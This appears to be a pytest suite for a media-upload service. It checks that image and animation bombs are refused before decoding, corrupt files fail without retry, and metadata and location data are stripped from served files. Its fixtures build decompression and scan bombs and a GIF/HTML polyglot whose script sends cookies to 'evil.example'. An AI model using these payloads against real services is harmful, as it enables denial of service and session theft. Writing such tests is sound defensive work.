"""Hostile uploads: bombs refused before decoding, input failures never retried, no metadata
served. Each file is crafted by hand (a few hundred bytes to a few hundred kB), uploaded
through the API and processed by a real worker, as in test_media.py."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image, ImageFile

from tests.conftest import running_worker, sql, token_for
from tests.test_media import assert_no_exif, jpeg_with_exif, local_file, process


@pytest.fixture
def me(app):
    return token_for(app)


@pytest.fixture
def decoded(monkeypatch):
    """The frames Pillow decodes while the test runs (the worker runs in this process)."""
    calls: list[tuple[str, tuple[int, int]]] = []
    load = ImageFile.ImageFile.load

    def spying_load(self):
        calls.append((self.format, self.size))
        return load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spying_load)
    return calls


def assert_failed_for_its_input(client, job, code: str) -> None:
    """Failed at once with the code, never retried; the media row says so, the bytes are gone."""
    assert job["status"] == "failed", job
    assert job["error"]["code"] == code, job["error"]
    assert job["attempts"] == 1
    app = client.application
    assert sql(app, "SELECT status, error_code FROM media") == [("failed", code)]
    assert sql(app, "SELECT count(*) FROM media_blobs") == [(0,)]


def served_files(app, media) -> list[bytes]:
    """The bytes of every file stored for an upload: the original and each variant."""
    urls = [*media["urls"].values(), *media["fallback_urls"].values()]
    return [local_file(app, url).read_bytes() for url in urls if url]


def chunk(kind: bytes, data: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return struct.pack(">I", len(data)) + kind + data + crc


def gif_bomb(frames: int, screen: int, frame_at: int) -> bytes:
    """`frames` 1x1 frames at (frame_at, frame_at) on a `screen` x `screen` logical screen.

    Each frame is 20 bytes, yet Pillow composites each onto the whole canvas: the screen, or
    as far as a frame reaches past it.
    """
    header = b"GIF89a" + struct.pack("<HHBBB", screen, screen, 0x80, 0, 0) + bytes(3) + b"\xff" * 3
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    pixel = {0: b"\x02\x02\x44\x01\x00", 1: b"\x02\x02\x4c\x01\x00"}  # LZW: clear, i, end
    body = b"".join(
        b"\x21\xf9\x04\x04\x0a\x00\x00\x00"
        + b"\x2c"
        + struct.pack("<HHHHB", frame_at, frame_at, 1, 1, 0)
        + pixel[index % 2]
        for index in range(frames)
    )
    return header + loop + body + b"\x3b"


def apng(frames: int, side: int) -> bytes:
    """A grey APNG: every frame the whole `side` x `side` canvas of zeros (compressed)."""
    compressor = zlib.compressobj(9)
    row = bytes(side + 1)
    pixels = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    parts = [
        b"\x89PNG\r\n\x1a\n",
        chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)),
        chunk(b"acTL", struct.pack(">II", frames, 0)),
    ]
    sequence = 0
    for index in range(frames):
        control = struct.pack(">IIIIIHHBB", sequence, side, side, 0, 0, 1, 10, 0, 0)
        parts.append(chunk(b"fcTL", control))
        sequence += 1
        if index == 0:
            parts.append(chunk(b"IDAT", pixels))
        else:
            parts.append(chunk(b"fdAT", struct.pack(">I", sequence) + pixels))
            sequence += 1
    return b"".join([*parts, chunk(b"IEND", b"")])


def riff(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")


def animated_webp(frames: int, side: int) -> bytes:
    """An animated WebP: a `side` x `side` canvas, each frame a 1x1 lossless picture."""
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1), (200, 30, 30)).save(buffer, "WEBP", lossless=True)
    picture = buffer.getvalue()[12:]  # its VP8L chunk

    def u24(value: int) -> bytes:
        return struct.pack("<I", value)[:3]

    body = riff(b"VP8X", b"\x02\x00\x00\x00" + u24(side - 1) + u24(side - 1))
    body += riff(b"ANIM", struct.pack("<IH", 0, 0))
    frame = u24(0) + u24(0) + u24(0) + u24(0) + u24(100) + b"\x00" + picture
    body += riff(b"ANMF", frame) * frames
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


# --- 1. animation bombs ----------------------------------------------------------------------


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("screen", "frame_at"),
    [(6000, 0), (1, 5999)],
    ids=["logical-screen", "frames-reaching-past-a-1x1-screen"],
)
def test_gif_bomb_is_refused_before_decoding(client, me, worker, decoded, screen, frame_at):
    bomb = gif_bomb(3, screen, frame_at)  # 3 frames x 36 MP = 108 MP > 80 MP (2 x 40 MP)
    assert len(bomb) < 200

    job, _ = process(client, me, bomb, filename="fun.gif", mimetype="image/gif")

    assert_failed_for_its_input(client, job, "animation_too_large")
    assert "3 frames of 36,000,000 pixels" in job["error"]["message"]
    assert decoded == []  # refused from the blocks, before Pillow decoded a frame


@pytest.mark.timeout(60)
@pytest.mark.parametrize("make", [apng, animated_webp], ids=["apng", "animated-webp"])
def test_animated_png_and_webp_count_against_the_same_total(client, me, worker, decoded, make):
    data = make(10, 3000)  # 10 frames x 9 MP = 90 MP > 80 MP; each frame alone is fine

    job, _ = process(client, me, data, filename="fun.png", mimetype="image/png")

    assert_failed_for_its_input(client, job, "animation_too_large")
    assert decoded == []


def test_the_total_is_a_setting(make_app):

    app = make_app(MEDIA_MAX_TOTAL_PIXELS="100000000")
    client, headers = app.test_client(), token_for(app)
    with running_worker(app):
        job, media = process(client, headers, apng(10, 3000), filename="x.png")

    assert job["status"] == "succeeded"
    assert (media["width"], media["height"]) == (3000, 3000)


# --- 2. input that fails late is still the input's fault: permanent, never retried -----------


def gif_truncated_in_a_later_frame() -> bytes:
    frames = []
    for index in range(3):
        frame = Image.new("P", (200, 200), index)
        frame.putpalette([255, 0, 0, 0, 255, 0, 0, 0, 255] + [0] * 759)
        frames.append(frame)
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=50)
    return buffer.getvalue()[:-40]  # the first frame decodes; the last one is cut short


def gif_growing_in_a_later_frame() -> bytes:
    """Frame 1 sits at (39999, 39999): Pillow grows the canvas to 1.6 GP when it gets there."""
    header = b"GIF89a" + struct.pack("<HHBBB", 100, 100, 0x80, 0, 0) + bytes(3) + b"\xff" * 3
    first = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    second = b"\x2c" + struct.pack("<HHHHB", 39999, 39999, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"
    return header + first + second + b"\x3b"


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("make", "code"),
    [
        (gif_truncated_in_a_later_frame, "image_corrupt"),
        (gif_growing_in_a_later_frame, "image_too_large"),
        (lambda: jpeg_with_exif(400, 300), "image_too_large"),  # with MemoryError, below
    ],
    ids=["truncated-later-frame", "canvas-growing-later", "out-of-memory-encoding"],
)
def test_input_failing_while_encoding_is_never_retried(
    client, me, worker, monkeypatch, make, code, request
):
    if "out-of-memory" in request.node.callspec.id:

        def out_of_memory(self, *args, **kwargs):
            raise MemoryError

        monkeypatch.setattr(Image.Image, "thumbnail", out_of_memory)

    job, _ = process(client, me, make())

    assert_failed_for_its_input(client, job, code)


def test_broken_exif_only_loses_its_orientation(app, client, me, worker):
    photo = jpeg_with_exif(400, 300)
    tiff = photo.index(b"Exif\x00\x00") + 6
    broken = photo[:tiff] + b"MM\x00\xe7" + photo[tiff + 4 :]  # not a TIFF header

    job, media = process(client, me, broken)

    assert job["status"] == "succeeded", job["error"]
    assert (media["width"], media["height"]) == (400, 300)  # not turned: orientation unknown
    for data in served_files(app, media):
        assert_no_exif(data)


def progressive_scan_bomb(extra_scans: int) -> bytes:
    """A progressive JPEG with one of its scans repeated: libjpeg passes over every block of
    the image once per scan (2,000 extra scans: 5 s at 6000x6000; 5 MB of them: minutes)."""
    buffer = io.BytesIO()
    Image.new("L", (1000, 1000)).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    scans, pos = [], 2
    while data[pos + 1] != 0xD9:  # up to the end-of-image marker
        end = pos + 2 + struct.unpack_from(">H", data, pos + 2)[0]
        if data[pos + 1] == 0xDA:  # the scan header, then entropy-coded data to the next marker
            while not (data[end] == 0xFF and data[end + 1] not in (0, *range(0xD0, 0xD8))):
                end += 1
            scans.append(data[pos:end])
        pos = end
    return data[:pos] + min(scans[1:], key=len) * extra_scans + data[pos:]


@pytest.mark.timeout(60)
def test_progressive_jpeg_scan_bomb_is_refused(client, me, worker, decoded):
    job, _ = process(client, me, progressive_scan_bomb(2000))

    assert_failed_for_its_input(client, job, "image_too_complex")
    assert decoded == []


# --- 4. hostile files in general --------------------------------------------------------------


def zip_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
    return buffer.getvalue()


def png(width: int, height: int, pixels: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(pixels))
        + chunk(b"IEND", b"")
    )


def webp(size=(300, 300)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (1, 2, 3)).save(buffer, "WEBP")
    return buffer.getvalue()


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xff\xd8\xff" + zip_file(), "image_unreadable"),
        (png(6000, 6000, bytes(10)), "image_corrupt"),
        (png(100_000, 100_000, bytes(10)), "image_too_large"),
        (png(100, 100, bytes(101 * 100))[:60], "image_corrupt"),
        (webp()[:60], "image_corrupt"),
        (gif_truncated_in_a_later_frame()[:20], "image_unreadable"),
        (jpeg_with_exif(800, 600)[:700], "image_corrupt"),
    ],
    ids=[
        "jpeg-magic-then-zip",
        "png-36mp-declared-10-bytes-of-data",
        "png-10gp-declared",
        "png-truncated",
        "webp-truncated",
        "gif-header-only",
        "jpeg-truncated",
    ],
)
def test_hostile_files_fail_their_job_with_a_clear_code(client, me, worker, data, code):
    job, _ = process(client, me, data)

    assert_failed_for_its_input(client, job, code)


# --- 3. no metadata in what is served ---------------------------------------------------------

PERSONAL = "Jane Doe, Villa Kamboja, Ubud"
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf'
    b'-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    b'exif:GPSLatitude="8,30.0S" exif:GPSLongitude="115,15.0E"/></rdf:RDF></x:xmpmeta>'
)


def icc_profile(description: str, swap_red_and_blue: bool = False) -> bytes:
    """littleCMS's sRGB profile with its description replaced (same length, UTF-16), and
    optionally its red and blue colorants swapped (so converting turns red into blue)."""
    from PIL import ImageCms

    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    old = "sRGB built-in".encode("utf-16-be")
    new = description[:13].ljust(13).encode("utf-16-be")
    data[data.index(old) : data.index(old) + len(old)] = new
    if swap_red_and_blue:
        table = {bytes(data[132 + 12 * i : 136 + 12 * i]): 136 + 12 * i for i in range(20)}
        red, blue = table[b"rXYZ"], table[b"bXYZ"]
        data[red : red + 4], data[blue : blue + 4] = data[blue : blue + 4], data[red : red + 4]
    return bytes(data)


def assert_nothing_personal(data: bytes) -> None:
    image = Image.open(io.BytesIO(data))
    assert not {"comment", "xmp", "icc_profile", "exif"} & set(image.info), image.info
    for secret in (PERSONAL[:8].encode(), "Jane Doe".encode("utf-16-be"), b"GPSLatitude"):
        assert secret not in data


def test_jpeg_comment_is_not_served(app, client, me, worker):
    buffer = io.BytesIO()
    Image.new("RGB", (600, 400), (200, 120, 40)).save(
        buffer,
        "JPEG",
        comment=PERSONAL.encode(),
        xmp=XMP,
        icc_profile=icc_profile("Jane Doe Ubud"),
    )
    photo = buffer.getvalue()
    assert Image.open(io.BytesIO(photo)).info["comment"] == PERSONAL.encode()

    job, media = process(client, me, photo)

    assert job["status"] == "succeeded"
    files = served_files(app, media)
    assert len(files) == 7  # the original and six variants
    for data in files:
        assert_nothing_personal(data)


def gif_with_comments(frames: int) -> bytes:
    images = []
    for index in range(frames):
        frame = Image.new("P", (40, 30), index % 3)
        frame.putpalette([230, 40, 40, 40, 200, 60, 30, 60, 220] + [0] * 759)
        frame.info["comment"] = f"{PERSONAL} (frame {index})".encode()
        images.append(frame)
    buffer = io.BytesIO()
    images[0].save(buffer, "GIF", save_all=True, append_images=images[1:], duration=40)
    return buffer.getvalue()


def png_with_metadata() -> bytes:
    from PIL import PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("Author", PERSONAL)
    text.add_itxt("XML:com.adobe.xmp", XMP.decode())
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "S", 2: (8.0, 30.0, 0.0), 3: "E", 4: (115.0, 15.0, 0.0)})
    buffer = io.BytesIO()
    Image.new("RGBA", (300, 200), (0, 128, 255, 200)).save(
        buffer, "PNG", pnginfo=text, exif=exif, icc_profile=icc_profile("Jane Doe Ubud")
    )
    return buffer.getvalue()


@pytest.mark.parametrize(
    "make",
    [lambda: gif_with_comments(1), lambda: gif_with_comments(3), png_with_metadata],
    ids=["gif", "animated-gif", "png-with-icc-text-xmp-exif"],
)
def test_gif_comment_and_png_metadata_are_not_served(app, client, me, worker, make):
    data = make()
    assert PERSONAL[:8].encode() in data or "Jane Doe".encode("utf-16-be") in data

    job, media = process(client, me, data, filename="x.png", mimetype="image/png")

    assert job["status"] == "succeeded"
    for served in served_files(app, media):
        assert_nothing_personal(served)


def test_icc_profile_is_applied_then_dropped(app, client, me, worker):
    """A profile whose red is blue: served pixels are converted to sRGB (blue), untagged."""
    buffer = io.BytesIO()
    Image.new("RGB", (200, 200), (255, 0, 0)).save(
        buffer, "PNG", icc_profile=icc_profile("Swapped", swap_red_and_blue=True)
    )

    job, media = process(client, me, buffer.getvalue(), filename="x.png")

    assert job["status"] == "succeeded"
    for served in served_files(app, media):
        image = Image.open(io.BytesIO(served))
        assert "icc_profile" not in image.info
        red, _green, blue = image.convert("RGB").getpixel((100, 100))
        assert blue > 200, (red, blue)
        assert red < 60, (red, blue)


def gif_html_polyglot() -> bytes:
    """A real GIF that is also a web page: a script in a comment, HTML after the trailer."""
    script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    gif = gif_with_comments(1)
    comment = b"\x21\xfe" + bytes([len(script)]) + script + b"\x00"
    at = 13 + (3 << ((gif[10] & 7) + 1))  # after the header and global palette
    return gif[:at] + comment + gif[at:] + b"<html><body>" + script + b"</body></html>"


@pytest.mark.parametrize(
    ("data", "payloads"),
    [
        (gif_html_polyglot(), [b"<script", b"<html"]),
        (jpeg_with_exif(300, 200) + zip_file(), [b"PK\x03\x04", b"payload.html", b"<script"]),
    ],
    ids=["gif-that-is-also-html", "jpeg-with-a-zip-appended"],
)
def test_polyglots_are_served_without_their_payload(app, client, me, worker, data, payloads):
    assert Image.open(io.BytesIO(data)).size  # a real image, which still decodes

    job, media = process(client, me, data)

    assert job["status"] == "succeeded"
    for served in served_files(app, media):
        for payload in payloads:
            assert payload not in served


# --- 3. no location in served videos ---------------------------------------------------------

LOCATION = b"+08.5069+115.2625+035.000/"


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def full_box(kind: bytes, payload: bytes) -> bytes:
    return box(kind, b"\x00\x00\x00\x00" + payload)


def boxes(data: bytes, start: int = 0, end: int | None = None) -> list[tuple[bytes, int, int]]:
    """(type, start, end) of the boxes at one level, as a player reads them."""
    end, found = len(data) if end is None else end, []
    while start < end:
        size, kind = struct.unpack_from(">I4s", data, start)
        if size == 1:
            size = struct.unpack_from(">Q", data, start + 8)[0]
        found.append((kind, start, start + size))
        start += size
    return found


def phone_video(brand: bytes) -> tuple[bytes, int, bytes]:
    """A phone-style recording (mdat with a 64-bit size first, moov last), with where it was
    shot in QuickTime `©xyz`, Apple's `meta` keys, and 3GPP `loci` in the track."""
    samples = bytes(range(256)) * 12
    ftyp = box(b"ftyp", brand + b"\x00\x00\x00\x00" + brand + b"isom")
    mdat = struct.pack(">I4sQ", 1, b"mdat", 16 + len(samples)) + samples
    first_sample = len(ftyp) + 16
    loci = full_box(b"loci", b"\x15\xc7Ubud rice fields\x00\x00" + bytes(12) + b"Earth\x00\x00")
    stbl = box(b"stbl", full_box(b"stco", struct.pack(">II", 1, first_sample)))
    trak = box(
        b"trak",
        full_box(b"tkhd", bytes(80)) + box(b"mdia", box(b"minf", stbl)) + box(b"udta", loci),
    )
    keys = full_box(
        b"keys",
        struct.pack(">I", 2)
        + box(b"mdta", b"com.apple.quicktime.location.ISO6709")
        + box(b"mdta", b"com.apple.quicktime.model"),
    )
    ilst = box(
        b"ilst",
        box(struct.pack(">I", 1), box(b"data", struct.pack(">II", 1, 0) + LOCATION))
        + box(struct.pack(">I", 2), box(b"data", struct.pack(">II", 1, 0) + b"iPhone 15 Pro")),
    )
    meta = box(b"meta", full_box(b"hdlr", b"\x00\x00\x00\x00mdta" + bytes(13)) + keys + ilst)
    xyz = box(b"\xa9xyz", struct.pack(">HH", len(LOCATION), 0x15C7) + LOCATION)
    moov = box(b"moov", full_box(b"mvhd", bytes(96)) + trak + box(b"udta", xyz) + meta)
    return ftyp + mdat + moov, first_sample, samples


@pytest.mark.parametrize(
    ("brand", "content_type"),
    [(b"mp42", "video/mp4"), (b"qt  ", "video/quicktime")],
    ids=["mp4", "mov"],
)
def test_mp4_location_atoms_are_removed(app, client, me, worker, brand, content_type):
    video, first_sample, samples = phone_video(brand)

    job, media = process(client, me, video, filename="clip.mp4", mimetype="video/mp4")

    assert job["status"] == "succeeded"
    assert media["content_type"] == content_type
    served = local_file(app, media["urls"]["original"]).read_bytes()
    for secret in (LOCATION, b"ISO6709", b"iPhone", b"Ubud", b"\xa9xyz", b"loci"):
        assert secret in video
        assert secret not in served
    assert len(served) == len(video)  # nothing moved: every chunk offset is still right
    assert served[first_sample : first_sample + len(samples)] == samples
    top = boxes(served)
    assert [kind for kind, _, _ in top] == [b"ftyp", b"mdat", b"moov"]
    _, moov_start, moov_end = top[2]
    children = boxes(served, moov_start + 8, moov_end)
    assert [kind for kind, _, _ in children] == [b"mvhd", b"trak", b"free", b"free"]
    stco = served.index(b"stco")
    assert struct.unpack_from(">I", served, stco + 12)[0] == first_sample


def ebml(element_id: int, payload: bytes, unknown_size: bool = False) -> bytes:
    size = b"\x01\xff\xff\xff\xff\xff\xff\xff" if unknown_size else bytes([0x80 | len(payload)])
    if not unknown_size and len(payload) >= 127:
        size = (0x4000 | len(payload)).to_bytes(2, "big")
    return element_id.to_bytes((element_id.bit_length() + 7) // 8, "big") + size + payload


def browser_webm() -> tuple[bytes, bytes]:
    """A WebM as live recorders write it (segment and cluster of unknown size), with a
    RECORDING_LOCATION tag at the end and a SeekHead entry pointing at the tags."""
    header = ebml(0x1A45DFA3, ebml(0x4286, b"\x01") + ebml(0x4282, b"webm"))
    seek_head = ebml(
        0x114D9B74,
        ebml(0x4DBB, ebml(0x53AB, bytes.fromhex("1254c367")) + ebml(0x53AC, b"\x00\x80"))
        + ebml(0x4DBB, ebml(0x53AB, bytes.fromhex("1549a966")) + ebml(0x53AC, b"\x00\x20")),
    )
    info = ebml(0x1549A966, ebml(0x2AD7B1, b"\x0f\x42\x40") + ebml(0x4D80, b"recorder"))
    tracks = ebml(0x1654AE6B, ebml(0xAE, ebml(0xD7, b"\x01") + ebml(0x86, b"V_VP8")))
    cluster = ebml(
        0x1F43B675,
        ebml(0xE7, b"\x00") + ebml(0xA3, b"\x81\x00\x00\x80" + bytes(range(100))),
        unknown_size=True,
    )
    tag = ebml(0x67C8, ebml(0x45A3, b"RECORDING_LOCATION") + ebml(0x4487, LOCATION))
    tags = ebml(0x1254C367, ebml(0x7373, tag))
    segment = ebml(0x18538067, seek_head + info + tracks + cluster + tags, unknown_size=True)
    return header + segment, cluster


def test_webm_location_tags_are_removed(app, client, me, worker):
    video, cluster = browser_webm()

    job, media = process(client, me, video, filename="clip.webm", mimetype="video/webm")

    assert job["status"] == "succeeded"
    served = local_file(app, media["urls"]["original"]).read_bytes()
    for secret in (LOCATION, b"RECORDING_LOCATION", bytes.fromhex("1254c367")):
        assert secret in video
        assert secret not in served  # the Tags element and the seek entry to it are Void
    assert len(served) == len(video)
    assert served.index(cluster) == video.index(cluster)  # the frames are untouched
    assert bytes.fromhex("1549a966") in served  # the seek entry to Info stays


def test_malformed_video_container_fails_clearly(client, me, worker):
    video, _, _ = phone_video(b"mp42")
    moov = video.index(b"moov") - 4
    broken = video[: moov + 8] + struct.pack(">I4s", 3, b"mvhd") + video[moov + 16 :]

    job, _ = process(client, me, broken, filename="clip.mp4", mimetype="video/mp4")

    assert_failed_for_its_input(client, job, "video_corrupt")
